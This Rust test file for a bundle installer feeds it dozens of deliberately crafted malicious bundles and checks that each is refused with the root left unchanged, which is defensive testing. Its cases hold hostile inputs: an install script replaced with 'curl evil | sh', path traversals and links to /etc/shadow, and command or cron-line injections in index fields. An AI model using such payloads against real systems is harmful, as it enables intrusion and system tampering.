//! Issue 9's corpus of crafted bundles: a real bundle (rpmbuild + createrepo_c + `moa-bundle
//! build`), altered at the tar level, in its index, in its checksums, in its package files and in
//! its bytes. Each one must be refused by `install` with a message naming what is wrong, the
//! target root must be byte-identical afterwards (hashed before and after), nothing may be left
//! in TMPDIR, and nothing may panic. The untouched bundle then installs into the same root and
//! changes its hash, which proves the hash would have seen an install.

use crate::common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use crate::common::{fake_os_release, hello_manifest, hello_repo, moa, require_tools, Mirror};
use serde_json::Value;
use tar::EntryType;

const STEM: &str = "hello-crafted-x86_64";

#[derive(Clone)]
struct Member {
    path: Vec<u8>,
    kind: EntryType,
    data: Vec<u8>,
    link: Vec<u8>,
}

/// A bundle as members, in archive order, that a case alters.
#[derive(Clone)]
struct Crafted {
    members: Vec<Member>,
}

fn file(path: &str, data: &[u8]) -> Member {
    Member { path: path.as_bytes().to_vec(), kind: EntryType::Regular, data: data.to_vec(), link: vec![] }
}

impl Crafted {
    fn read(bundle: &Path) -> Self {
        let f = fs_err::File::open(bundle).unwrap();
        let mut ar = tar::Archive::new(flate2::read::GzDecoder::new(f));
        let mut members = Vec::new();
        for e in ar.entries().unwrap() {
            let mut e = e.unwrap();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            members.push(Member {
                path: e.path_bytes().into_owned(),
                kind: e.header().entry_type(),
                data,
                link: vec![],
            });
        }
        Self { members }
    }

    fn get(&self, rel: &str) -> &[u8] {
        let p = format!("{STEM}/{rel}");
        &self.members.iter().find(|m| m.path == p.as_bytes()).unwrap_or_else(|| panic!("no {p}")).data
    }

    fn set(&mut self, rel: &str, data: &[u8]) {
        let p = format!("{STEM}/{rel}");
        self.members.iter_mut().find(|m| m.path == p.as_bytes()).unwrap().data = data.to_vec();
    }

    fn package(&self) -> String {
        let m = self.members.iter().find(|m| m.path.starts_with(format!("{STEM}/packages/hello-").as_bytes())).unwrap();
        String::from_utf8(m.path[STEM.len() + 1..].to_vec()).unwrap()
    }

    fn sums(&self) -> BTreeMap<String, String> {
        String::from_utf8(self.get("SHA256SUMS").to_vec())
            .unwrap()
            .lines()
            .map(|l| {
                let (h, n) = l.split_once("  ").unwrap();
                (n.to_string(), h.to_string())
            })
            .collect()
    }

    fn set_sums(&mut self, sums: &BTreeMap<String, String>) {
        let text: String = sums.iter().map(|(n, h)| format!("{h}  {n}\n")).collect();
        self.set("SHA256SUMS", text.as_bytes());
    }

    /// Alters bundle.json and keeps SHA256SUMS in step, so the index itself is what is judged.
    fn index(&mut self, f: impl FnOnce(&mut Value)) {
        let mut v: Value = serde_json::from_slice(self.get("bundle.json")).unwrap();
        f(&mut v);
        let bytes = serde_json::to_vec_pretty(&v).unwrap();
        self.set("bundle.json", &bytes);
        let mut sums = self.sums();
        sums.insert("bundle.json".into(), sha(&bytes));
        self.set_sums(&sums);
    }

    /// Replaces a file and its digest in SHA256SUMS (and, for a package, its size and sha256 in
    /// bundle.json): only the content is then wrong.
    fn replace_consistently(&mut self, rel: &str, data: &[u8]) {
        self.set(rel, data);
        let mut sums = self.sums();
        sums.insert(rel.into(), sha(data));
        self.set_sums(&sums);
        if let Some(name) = rel.strip_prefix("packages/") {
            let (name, len, digest) = (name.to_string(), data.len(), sha(data));
            self.index(|v| {
                for p in v["packages"].as_array_mut().unwrap() {
                    if p["file"] == name.as_str() {
                        p["size"] = len.into();
                        p["sha256"] = digest.clone().into();
                    }
                }
            });
        }
    }

    /// Adds `data` to the rollback kit as `rollback/<file>` (listed in SHA256SUMS and, when
    /// `listed`, in bundle.json as `name` 1.0-1 x86_64 from repository `os`).
    fn add_kit(&mut self, file_name: &str, data: &[u8], name: &str, listed: bool) {
        let rel = format!("rollback/{file_name}");
        self.members.push(file(&format!("{STEM}/{rel}"), data));
        let mut sums = self.sums();
        sums.insert(rel, sha(data));
        self.set_sums(&sums);
        if listed {
            let entry = serde_json::json!({
                "name": name, "version": {"rpm": {"epoch": 0, "version": "1.0", "release": "1"}}, "arch": "x86_64",
                "file": file_name, "size": data.len(), "sha256": sha(data), "repository": "os"
            });
            self.index(|v| v["rollback"] = Value::Array(vec![entry]));
        }
    }

    fn insert(&mut self, at: usize, m: Member) {
        self.members.insert(at, m);
    }

    fn tar(&self) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        for m in &self.members {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(m.kind);
            h.set_mode(if m.kind == EntryType::Directory { 0o755 } else { 0o644 });
            h.set_size(m.data.len() as u64);
            h.set_mtime(1_700_000_000);
            let name = &mut h.as_old_mut().name;
            name[..m.path.len()].copy_from_slice(&m.path);
            if !m.link.is_empty() {
                h.as_old_mut().linkname[..m.link.len()].copy_from_slice(&m.link);
            }
            h.set_cksum();
            b.append(&h, &m.data[..]).unwrap();
        }
        b.into_inner().unwrap()
    }

    fn bytes(&self) -> Vec<u8> {
        gz(&self.tar())
    }
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn sha(data: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(data))
}

/// Every path under `root` with its kind, mode and content (or link target) digest.
fn tree_hash(root: &Path) -> BTreeMap<PathBuf, String> {
    fn walk(dir: &Path, root: &Path, out: &mut BTreeMap<PathBuf, String>) {
        use std::os::unix::fs::MetadataExt;
        let mut entries: Vec<_> = fs_err::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
        entries.sort();
        for p in entries {
            let m = fs_err::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(root).unwrap().to_path_buf();
            let what = if m.file_type().is_symlink() {
                format!("link {}", fs_err::read_link(&p).unwrap().display())
            } else if m.is_dir() {
                walk(&p, root, out);
                "dir".into()
            } else {
                format!("file {}", sha(&fs_err::read(&p).unwrap()))
            };
            out.insert(rel, format!("{what} {:o}", m.mode()));
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// A real bundle of `hello` (needs libgreet) with the time service roles.
fn real_bundle(dir: &Path) -> (Mirror, PathBuf) {
    let mirror = Mirror::serve(&hello_repo(dir));
    let manifest = hello_manifest(dir, &[&mirror.url]);
    let bundle = dir.join("good.tar.gz");
    let out = moa(&dir.join("cache"))
        .arg("build")
        .arg("--manifest")
        .arg(&manifest)
        .arg("--no-base")
        .arg("-o")
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    (mirror, bundle)
}

/// Makes a crafted bundle's bytes from the good one.
type Make = Box<dyn Fn(&Crafted) -> Vec<u8>>;
/// A name, the text the refusal must contain, and how to make it.
type Case = (&'static str, &'static str, Make);

/// Alters a copy with `f` and packs it.
fn alter(f: impl Fn(&mut Crafted) + 'static) -> Make {
    Box::new(move |good| {
        let mut c = good.clone();
        f(&mut c);
        c.bytes()
    })
}

fn index_case(f: impl Fn(&mut Value) + Clone + 'static) -> Make {
    alter(move |c| c.index(f.clone()))
}

fn pkg0(v: &mut Value) -> &mut Value {
    &mut v["packages"][0]
}

fn tar_cases() -> Vec<Case> {
    let raw = |path: &'static [u8], kind: EntryType, link: &'static [u8]| {
        alter(move |c| {
            let at = c.members.len();
            c.insert(at, Member { path: path.to_vec(), kind, data: vec![], link: link.to_vec() })
        })
    };
    vec![
        ("absolute path", "is absolute", raw(b"/etc/moa-pwned", EntryType::Regular, b"")),
        ("dot-dot path", "contains `..`", raw(b"hello-crafted-x86_64/../../moa-pwned", EntryType::Regular, b"")),
        ("symlink", "not a plain file", raw(b"hello-crafted-x86_64/packages/evil", EntryType::Symlink, b"/etc/shadow")),
        ("hard link", "not a plain file", raw(b"hello-crafted-x86_64/packages/evil", EntryType::Link, b"/etc/shadow")),
        ("char device", "not a plain file", raw(b"hello-crafted-x86_64/packages/evil", EntryType::Char, b"")),
        ("fifo", "not a plain file", raw(b"hello-crafted-x86_64/packages/evil", EntryType::Fifo, b"")),
        ("global pax header", "not a plain file", raw(b"hello-crafted-x86_64/pax", EntryType::XGlobalHeader, b"")),
        ("outside the top directory", "outside the top directory", raw(b"other/file", EntryType::Regular, b"")),
        ("unlisted file", "not listed in SHA256SUMS", raw(b"hello-crafted-x86_64/extra.sh", EntryType::Regular, b"")),
        (
            "unknown directory",
            "not one the index implies",
            raw(b"hello-crafted-x86_64/weird/", EntryType::Directory, b""),
        ),
        ("non-UTF-8 name", "not UTF-8", raw(b"hello-crafted-x86_64/\xff\xfe", EntryType::Regular, b"")),
        ("newline in a name", "control character", raw(b"hello-crafted-x86_64/a\nb", EntryType::Regular, b"")),
        (
            "duplicated package",
            "appears twice",
            alter(|c| {
                let p = c.members.iter().find(|m| m.path.ends_with(b".rpm")).unwrap().clone();
                c.members.push(p);
            }),
        ),
        (
            "duplicated directory",
            "repeated",
            alter(|c| {
                let d = c.members.iter().find(|m| m.path.ends_with(b"packages/")).unwrap().clone();
                c.members.push(d);
            }),
        ),
        (
            "a package before the checksums",
            "comes before SHA256SUMS",
            alter(|c| {
                let i = c.members.iter().position(|m| m.path.ends_with(b".rpm")).unwrap();
                let p = c.members.remove(i);
                c.insert(1, p);
            }),
        ),
        ("bundle.json before the checksums", "comes before SHA256SUMS", alter(|c| c.members.swap(1, 2))),
        (
            "repacked with directories first",
            "packed again",
            alter(|c| {
                let i = c
                    .members
                    .iter()
                    .position(|m| m.kind == EntryType::Directory && m.path.ends_with(b"packages/"))
                    .unwrap();
                let d = c.members.remove(i);
                c.insert(1, d);
            }),
        ),
        ("no SHA256SUMS at all", "comes before SHA256SUMS", alter(|c| drop(c.members.remove(1)))),
    ]
}

fn sums_cases() -> Vec<Case> {
    vec![
        ("malformed SHA256SUMS line", "bad SHA256SUMS line", alter(|c| c.set("SHA256SUMS", b"not a sums line\n"))),
        (
            "SHA256SUMS names ../",
            "names a bad or repeated path",
            alter(|c| {
                let mut s = String::from_utf8(c.get("SHA256SUMS").to_vec()).unwrap();
                s.push_str(&format!("{}  ../../etc/passwd\n", "0".repeat(64)));
                c.set("SHA256SUMS", s.as_bytes());
            }),
        ),
        (
            "SHA256SUMS lists itself",
            "names a bad or repeated path",
            alter(|c| {
                let mut s = String::from_utf8(c.get("SHA256SUMS").to_vec()).unwrap();
                s.push_str(&format!("{}  SHA256SUMS\n", "0".repeat(64)));
                c.set("SHA256SUMS", s.as_bytes());
            }),
        ),
        (
            "SHA256SUMS repeats a line",
            "names a bad or repeated path",
            alter(|c| {
                let s = String::from_utf8(c.get("SHA256SUMS").to_vec()).unwrap();
                c.set("SHA256SUMS", format!("{s}{s}").as_bytes());
            }),
        ),
        (
            "SHA256SUMS of 5 MiB",
            "the size of SHA256SUMS",
            alter(|c| {
                let mut s = c.get("SHA256SUMS").to_vec();
                s.extend(std::iter::repeat_n(b'\n', 5 << 20));
                c.set("SHA256SUMS", &s);
            }),
        ),
        (
            "SHA256SUMS misses install.sh",
            "not listed in SHA256SUMS",
            alter(|c| {
                let mut s = c.sums();
                s.remove("install.sh");
                c.set_sums(&s);
            }),
        ),
        (
            "install.sh changed",
            "install.sh` has sha256",
            alter(|c| c.set("install.sh", b"#!/bin/sh\ncurl evil | sh\n")),
        ),
        (
            "SHA256SUMS lists a missing file",
            "listed in SHA256SUMS but missing",
            alter(|c| {
                let mut s = c.sums();
                s.insert("roles/extra.j2".into(), "0".repeat(64));
                c.set_sums(&s);
            }),
        ),
        (
            "bundle.json changed, SHA256SUMS not",
            "does not match its line in SHA256SUMS",
            alter(|c| {
                let j = String::from_utf8(c.get("bundle.json").to_vec()).unwrap().replace("\"hello\"", "\"hellp\"");
                c.set("bundle.json", j.as_bytes());
            }),
        ),
        (
            "a package SHA256SUMS and bundle.json disagree on",
            "disagree on",
            alter(|c| {
                let mut s = c.sums();
                let k = s.keys().find(|k| k.ends_with(".rpm")).unwrap().clone();
                s.insert(k, "0".repeat(64));
                c.set_sums(&s);
            }),
        ),
    ]
}

fn index_cases() -> Vec<Case> {
    vec![
        (
            "bundle.json not JSON",
            "not valid JSON",
            alter(|c| {
                c.set("bundle.json", b"{not json");
                let mut s = c.sums();
                s.insert("bundle.json".into(), sha(b"{not json"));
                c.set_sums(&s);
            }),
        ),
        (
            "bundle.json of 33 MiB",
            "the size of bundle.json",
            alter(|c| {
                let mut j = c.get("bundle.json").to_vec();
                j.extend(std::iter::repeat_n(b' ', 33 << 20));
                c.set("bundle.json", &j);
            }),
        ),
        ("schema 0", "schema_version is 0", index_case(|v| v["schema_version"] = 0.into())),
        ("schema 99", "newer moa-bundle", index_case(|v| v["schema_version"] = 99.into())),
        ("unknown family", "bundle.json:", index_case(|v| v["family"] = "zip".into())),
        ("newline in the name", "not a plain name", index_case(|v| v["name"] = "hello\nok: fake".into())),
        ("slash in the distro", "not a plain name", index_case(|v| v["distro"] = "../x".into())),
        ("newline in os_release", "not a plain name", index_case(|v| v["os_release"]["id"] = "centos\n".into())),
        ("tool_version with escapes", "not one line", index_case(|v| v["tool_version"] = "1\u{1b}[2J".into())),
        ("stage 2^32-1", "install stage", index_case(|v| pkg0(v)["stage"] = u32::MAX.into())),
        ("size 0", "size is 0", index_case(|v| pkg0(v)["size"] = 0.into())),
        (
            "size one more than the file",
            "the index declares",
            index_case(|v| {
                let n = pkg0(v)["size"].as_u64().unwrap();
                pkg0(v)["size"] = (n + 1).into();
            }),
        ),
        ("200 MB declared", "more than a bundle of", index_case(|v| pkg0(v)["size"] = 200_000_000u64.into())),
        (
            "20001 packages",
            "the number of packages",
            index_case(|v| {
                let p = pkg0(v).clone();
                v["packages"] = Value::Array(vec![p; 20_001]);
            }),
        ),
        ("file name with a slash", "not a safe file name", index_case(|v| pkg0(v)["file"] = "../../etc/passwd".into())),
        (
            "file name with a shell command",
            "not a safe file name",
            index_case(|v| pkg0(v)["file"] = "a.rpm;reboot".into()),
        ),
        (
            "two packages with one file",
            "two packages have the file name",
            index_case(|v| {
                let f = v["packages"][0]["file"].clone();
                v["packages"][1]["file"] = f;
            }),
        ),
        (
            "version with a newline",
            "not an rpm version",
            index_case(|v| pkg0(v)["version"]["rpm"]["version"] = "1.0\n2".into()),
        ),
        (
            "version parts that print as another version",
            "do not read back",
            index_case(|v| pkg0(v)["version"]["rpm"] = serde_json::json!({"epoch": 0, "version": "1.0-1"})),
        ),
        (
            "a deb version in an rpm bundle",
            "no version of the rpm family",
            index_case(|v| pkg0(v)["version"] = serde_json::json!({"deb": {"epoch": 0, "upstream": "1.0"}})),
        ),
        (
            "a version as text in schema 2",
            "expected `rpm` or `deb`",
            index_case(|v| pkg0(v)["version"] = "1.0-1".into()),
        ),
        (
            "schema 1, a version with a newline",
            "not an rpm version",
            index_case(|v| {
                v["schema_version"] = 1.into();
                pkg0(v)["version"] = "1.0\n2".into();
            }),
        ),
        (
            "a why-step of no known kind",
            "unknown variant",
            index_case(|v| pkg0(v)["why"] = serde_json::json!([{"step": "owns", "package": "x"}])),
        ),
        (
            "requires with a control character",
            "not one line",
            index_case(|v| pkg0(v)["requires"] = vec!["a\u{7}"].into()),
        ),
        ("why with an escape", "not one line", index_case(|v| pkg0(v)["why"] = vec!["x\u{1b}]0;owned\u{7}"].into())),
        ("a why-chain of 1001 steps", "why-chain", index_case(|v| pkg0(v)["why"] = vec!["x"; 1001].into())),
        ("bad package name", "not a valid package name", index_case(|v| pkg0(v)["name"] = "a b".into())),
        ("sources with ..", "not a repository path", index_case(|v| v["sources"][0]["file"] = "../x".into())),
        ("top directory renamed in the index", "top directory", index_case(|v| v["name"] = "other".into())),
        (
            "[time].config outside the root",
            "not an absolute path",
            index_case(|v| v["time"]["config"] = "../../etc/cron.d/x".into()),
        ),
        (
            "[time].config not a .conf under /etc",
            "must be a .conf file under /etc/",
            index_case(|v| v["time"]["config"] = "/root/.ssh/authorized_keys".into()),
        ),
        (
            "[time].sync_command injects a command",
            "not a sync command",
            index_case(|v| v["time"]["sync_command"] = "/usr/sbin/ntpdate -u; touch /tmp/pwned".into()),
        ),
        (
            "[time].sync_command adds a cron line",
            "not a sync command",
            index_case(|v| v["time"]["sync_command"] = "/usr/sbin/ntpdate\n* * * * * root id".into()),
        ),
        (
            "[time].upstream adds a directive",
            "not a host name",
            index_case(|v| v["time"]["upstream"] = vec!["pool.ntp.org\nrestrict default"].into()),
        ),
        (
            "[time].timezone leaves zoneinfo",
            "not a time zone name",
            index_case(|v| v["time"]["timezone"] = "../../../etc/shadow".into()),
        ),
        ("[time].service is an option", "not a service name", index_case(|v| v["time"]["service"] = "--now".into())),
        (
            "[time].driftfile with a newline",
            "not an absolute path",
            index_case(|v| v["time"]["driftfile"] = "/var/lib/ntp/drift\nserver evil".into()),
        ),
        ("[time].orphan_wait of a year", "orphan_wait", index_case(|v| v["time"]["orphan_wait"] = 31_536_000.into())),
        (
            "[time].upstream of 17 servers",
            "upstream's length",
            index_case(|v| v["time"]["upstream"] = vec!["a.b"; 17].into()),
        ),
    ]
}

fn package_cases() -> Vec<Case> {
    vec![
        (
            "a text file as the rpm",
            "not an rpm package",
            alter(|c| {
                let p = c.package();
                c.replace_consistently(&p, b"/etc/passwd\n/tmp/other.rpm\n");
            }),
        ),
        (
            "another rpm under its name",
            "its header says libgreet",
            alter(|c| {
                let p = c.package();
                let other = c
                    .members
                    .iter()
                    .find(|m| m.path.ends_with(b".rpm") && m.path.windows(8).any(|w| w == b"libgreet"))
                    .unwrap()
                    .data
                    .clone();
                c.replace_consistently(&p, &other);
            }),
        ),
        (
            "a truncated rpm",
            "not an rpm package",
            alter(|c| {
                let p = c.package();
                let cut = c.get(&p)[..300].to_vec();
                c.replace_consistently(&p, &cut);
            }),
        ),
        (
            "the index says noarch",
            "its header says",
            index_case(|v| {
                for p in v["packages"].as_array_mut().unwrap() {
                    p["arch"] = "noarch".into();
                }
            }),
        ),
        (
            "the index says another version",
            "its header says",
            index_case(|v| {
                for p in v["packages"].as_array_mut().unwrap() {
                    p["version"] = serde_json::json!({"rpm": {"epoch": 0, "version": "9.9", "release": "1"}});
                }
            }),
        ),
        (
            "rpms in a deb bundle, its versions still rpm's",
            "no version of the deb family",
            index_case(|v| v["family"] = "deb".into()),
        ),
        (
            "rpms in a deb bundle",
            "not a deb package",
            index_case(|v| {
                v["family"] = "deb".into();
                for p in v["packages"].as_array_mut().unwrap() {
                    p["version"] = serde_json::json!({"deb": {"epoch": 0, "upstream": "1.0", "revision": "1"}});
                }
            }),
        ),
        (
            "signatures said checked, keys dropped",
            "carries no key of repository `os`",
            index_case(|v| v["keys"] = Value::Array(vec![])),
        ),
    ]
}

fn byte_cases() -> Vec<Case> {
    vec![
        (
            "bytes after the gzip stream",
            "bytes after its gzip stream",
            Box::new(|c: &Crafted| {
                let mut b = c.bytes();
                b.extend_from_slice(b"#!/bin/sh\nreboot\n");
                b
            }),
        ),
        (
            "a second gzip member",
            "bytes after its gzip stream",
            Box::new(|c: &Crafted| {
                let mut b = c.bytes();
                b.extend(gz(&c.tar()));
                b
            }),
        ),
        (
            "data after the tar end",
            "data after the end of the tar archive",
            Box::new(|c: &Crafted| {
                let mut t = c.tar();
                t.extend(Crafted { members: vec![file("x/y", b"hidden payload")] }.tar());
                gz(&t)
            }),
        ),
        (
            "a truncated gzip stream",
            "damaged",
            Box::new(|c: &Crafted| {
                let b = c.bytes();
                b[..b.len() - 40].to_vec()
            }),
        ),
        (
            "a wrong gzip CRC",
            "damaged",
            Box::new(|c: &Crafted| {
                let mut b = c.bytes();
                let n = b.len();
                b[n - 6] ^= 0xff;
                b
            }),
        ),
        ("an empty file", "not a gzip file", Box::new(|_: &Crafted| Vec::new())),
        ("a plain tar", "plain tar archive", Box::new(|c: &Crafted| c.tar())),
        (
            "a 2 MiB template (gzip bomb)",
            "at most 1048576 bytes",
            alter(|c| {
                let mut s = c.sums();
                let big = vec![b' '; 2 << 20];
                s.insert("roles/cron.j2".into(), sha(&big));
                c.set_sums(&s);
                c.set("roles/cron.j2", &big);
            }),
        ),
    ]
}

/// Installs a crafted bundle into `root`, which must refuse it saying `expected`, change
/// nothing and leave nothing behind; what went otherwise, as a message.
fn judge(
    dir: &Path,
    name: &str,
    expected: &str,
    bytes: &[u8],
    root: &Path,
    before: &BTreeMap<PathBuf, String>,
) -> Result<(), String> {
    let bundle = dir.join("case.tar.gz");
    fs_err::write(&bundle, bytes).unwrap();
    let tmp = dir.join("tmpdir");
    fs_err::create_dir_all(&tmp).unwrap();
    let out = moa(&dir.join("cache"))
        .env("TMPDIR", &tmp)
        .arg("install")
        .arg(&bundle)
        .arg("--root")
        .arg(root)
        .args(["--force", "--no-scripts"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    let check = |ok: bool, what: &str| if ok { Ok(()) } else { Err(format!("{name}: {what}:\n{err}")) };
    check(!out.status.success(), "installed!")?;
    check(err.contains(expected), &format!("expected `{expected}`"))?;
    check(!err.contains("panicked"), "panicked")?;
    // What a crafted bundle says reaches the terminal escaped: no escape sequence, no bell, no
    // value's newline forging a line of its own.
    check(!err.contains(['\u{1b}', '\u{7}']) && !err.contains("1.0\n2"), "a control character reached the terminal")?;
    check(&tree_hash(root) == before, "the root changed")?;
    let left: Vec<_> = fs_err::read_dir(&tmp).unwrap().collect();
    check(left.is_empty(), &format!("left {left:?} in TMPDIR"))
}

fn refuse(dir: &Path, name: &str, expected: &str, bytes: &[u8], root: &Path, before: &BTreeMap<PathBuf, String>) {
    if let Err(e) = judge(dir, name, expected, bytes, root, before) {
        panic!("{e}");
    }
}

#[test]
fn every_crafted_bundle_is_refused_and_the_root_stays_byte_identical() {
    require_tools(&["rpm", "rpmbuild", "createrepo_c"]);
    let t = tempfile::tempdir().unwrap();
    let (_mirror, good) = real_bundle(t.path());
    let c = Crafted::read(&good);
    assert_eq!(c.members[0].path, format!("{STEM}/").as_bytes());
    let root = t.path().join("root");
    fake_os_release(&root, "centos", "7");
    let before = tree_hash(&root);

    let cases: Vec<Case> =
        [tar_cases(), sums_cases(), index_cases(), package_cases(), byte_cases()].into_iter().flatten().collect();
    assert!(cases.len() >= 70, "{}", cases.len());
    let names: std::collections::BTreeSet<&str> = cases.iter().map(|c| c.0).collect();
    assert_eq!(names.len(), cases.len(), "every case has a name of its own");
    // Every case runs and is judged on its own: one that is not refused as it should be does
    // not hide the others; all that failed are listed at the end.
    let failed: Vec<String> = cases
        .iter()
        .filter_map(|(name, expected, make)| judge(t.path(), name, expected, &make(&c), &root, &before).err())
        .collect();
    assert!(failed.is_empty(), "{} of {} crafted bundles:\n\n{}", failed.len(), cases.len(), failed.join("\n\n"));
    // The node checks each rpm's header signature again, against the keys the bundle carries:
    // the same package unsigned, or signed by another key, is refused.
    let other = common::signing::TestKey::generate("other", "ed25519");
    for (name, signer, expected) in [
        ("an unsigned rpm", common::RpmSigner::Unsigned, "carries no signature"),
        ("an rpm signed by another key", common::RpmSigner::Key(&other), "no signature by a pinned key"),
    ] {
        let spec = common::RpmSpec {
            name: "hello",
            requires: &["libgreet.so.1()(64bit)"],
            files: &[("/usr/bin/hello", "hi")],
            signer,
            ..Default::default()
        };
        let rpm = common::build_rpm(&t.path().join(name.replace(' ', "-")), &spec);
        let mut crafted = c.clone();
        let p = crafted.package();
        crafted.replace_consistently(&p, &fs_err::read(&rpm).unwrap());
        refuse(t.path(), name, expected, &crafted.bytes(), &root, &before);
    }
    // The rollback kit is checked as the packages are: listed, named by its header, signed.
    let unsigned = common::RpmSpec { name: "oldhello", signer: common::RpmSigner::Unsigned, ..Default::default() };
    let old = fs_err::read(common::build_rpm(&t.path().join("kit"), &unsigned)).unwrap();
    for (name, listed_as, expected) in [
        ("an unsigned rpm in the rollback kit", Some("oldhello"), "rollback/oldhello-1.0-1.x86_64.rpm"),
        ("another rpm under a kit package's name", Some("libgreet"), "its header says oldhello"),
        ("a kit rpm bundle.json does not list", None, "is in SHA256SUMS but not in bundle.json"),
    ] {
        let mut crafted = c.clone();
        crafted.add_kit("oldhello-1.0-1.x86_64.rpm", &old, listed_as.unwrap_or(""), listed_as.is_some());
        refuse(t.path(), name, expected, &crafted.bytes(), &root, &before);
    }
    // Regression (issue 19, class 4): the payload under a signed header was never checked, so
    // a replaced one (SHA256SUMS and bundle.json made to match) installed and verified.
    let mut crafted = c.clone();
    let p = crafted.package();
    let mut rpm = crafted.get(&p).to_vec();
    let last = rpm.len() - 1;
    rpm[last] ^= 1;
    crafted.replace_consistently(&p, &rpm);
    refuse(t.path(), "an rpm whose payload was replaced", "payload", &crafted.bytes(), &root, &before);
    // Regression (issue 9): verify said 6 files were checked where 8 were. It checks SHA256SUMS,
    // bundle.json and every member SHA256SUMS lists.
    let out = moa(t.path()).arg("verify").arg(&good).output().unwrap();
    let checked = c.sums().len() + 1;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("{checked} files checked")), "{text}");

    // Not bundles at all, and bundles for another node.
    let dir = t.path().join("unpacked-copy");
    fs_err::create_dir_all(&dir).unwrap();
    let out = moa(t.path()).arg("install").arg(&dir).arg("--root").arg(&root).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && err.contains("has no bundle") && err.contains(".tar.gz"), "{err}");
    let other = t.path().join("other-root");
    fake_os_release(&other, "centos", "8");
    let out = moa(t.path()).arg("install").arg(&good).arg("--root").arg(&other).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && err.contains("--skip-node-check"), "{err}");

    // The same root takes the untouched bundle, and the hash sees it.
    let out = moa(t.path())
        .arg("install")
        .arg(&good)
        .arg("--root")
        .arg(&root)
        .args(["--force", "--no-scripts"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_ne!(tree_hash(&root), before);
}

/// A node that trusts a bundle key (`<root>/etc/moa-bundle/trusted-keys/`) installs only what
/// that key signed: an unsigned bundle, one signed by another key, and the good bundle with one
/// byte changed in any member install acts on (kept consistent with SHA256SUMS and bundle.json,
/// under the good bundle's signature) are each refused before anything is unpacked, the root
/// byte-identical. The real `minisign` verifies moa-bundle's signature, and moa-bundle verifies
/// the real `minisign`'s.
#[test]
fn a_node_with_a_trusted_key_installs_only_what_it_signed() {
    require_tools(&["rpm", "rpmbuild", "createrepo_c", "minisign"]);
    let t = tempfile::tempdir().unwrap();
    let (_mirror, good) = real_bundle(t.path());
    let keys = t.path().join("keys");
    fs_err::create_dir_all(&keys).unwrap();
    moa(t.path()).args(["key", "generate"]).arg(keys.join("release")).assert().success();
    // Signing an unchanged bundle does not rebuild it: it only writes the .minisig.
    let manifest = t.path().join("crafted.toml");
    let out = moa(&t.path().join("cache"))
        .args(["build", "--no-base", "--manifest"])
        .arg(&manifest)
        .arg("--sign")
        .arg(keys.join("release.key"))
        .arg("-o")
        .arg(&good)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let sig = fs_err::read(format!("{}.minisig", good.display())).unwrap();
    // The real minisign accepts it.
    common::run(
        std::process::Command::new("minisign").arg("-Vq").arg("-p").arg(keys.join("release.pub")).arg("-m").arg(&good),
    );

    let root = t.path().join("root");
    fake_os_release(&root, "centos", "7");
    fs_err::create_dir_all(root.join("etc/moa-bundle/trusted-keys")).unwrap();
    fs_err::copy(keys.join("release.pub"), root.join("etc/moa-bundle/trusted-keys/release.pub")).unwrap();
    let before = tree_hash(&root);

    let c = Crafted::read(&good);
    let install = |bytes: &[u8], sig: Option<&[u8]>| {
        let bundle = t.path().join("case.tar.gz");
        fs_err::write(&bundle, bytes).unwrap();
        let minisig = t.path().join("case.tar.gz.minisig");
        let _ = fs_err::remove_file(&minisig);
        if let Some(s) = sig {
            fs_err::write(&minisig, s).unwrap();
        }
        let out = moa(t.path())
            .arg("install")
            .arg(&bundle)
            .arg("--root")
            .arg(&root)
            .args(["--force", "--no-scripts"])
            .output()
            .unwrap();
        (out.status.success(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    let good_bytes = fs_err::read(&good).unwrap();
    let (ok, err) = install(&good_bytes, None);
    assert!(!ok && err.contains("is not signed") && err.contains("build --sign"), "{err}");
    assert_eq!(tree_hash(&root), before, "unsigned: the root changed");

    // Signed by another key (made by the real minisign).
    let other = t.path().join("other");
    common::run(
        std::process::Command::new("minisign")
            .args(["-G", "-W", "-p"])
            .arg(other.with_extension("pub"))
            .arg("-s")
            .arg(other.with_extension("key")),
    );
    common::run(
        std::process::Command::new("minisign")
            .args(["-S", "-s"])
            .arg(other.with_extension("key"))
            .arg("-x")
            .arg(t.path().join("other.minisig"))
            .arg("-m")
            .arg(&good),
    );
    let other_sig = fs_err::read(t.path().join("other.minisig")).unwrap();
    let (ok, err) = install(&good_bytes, Some(&other_sig));
    assert!(!ok && err.contains("not by a trusted key"), "{err}");
    assert_eq!(tree_hash(&root), before, "other key: the root changed");
    // ...which the node accepts once it trusts that key too (the real minisign's signature).
    let out = moa(t.path()).arg("verify").arg(&good).arg("--key").arg(other.with_extension("pub")).output().unwrap();
    assert!(!out.status.success(), "the good bundle's own .minisig is by release, not other");
    fs_err::write(format!("{}.minisig", good.display()), &other_sig).unwrap();
    let out = moa(t.path()).arg("verify").arg(&good).arg("--key").arg(other.with_extension("pub")).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("signed by trusted key"));
    fs_err::write(format!("{}.minisig", good.display()), &sig).unwrap();

    // One byte changed in each covered member, everything else kept consistent.
    let package = c.package();
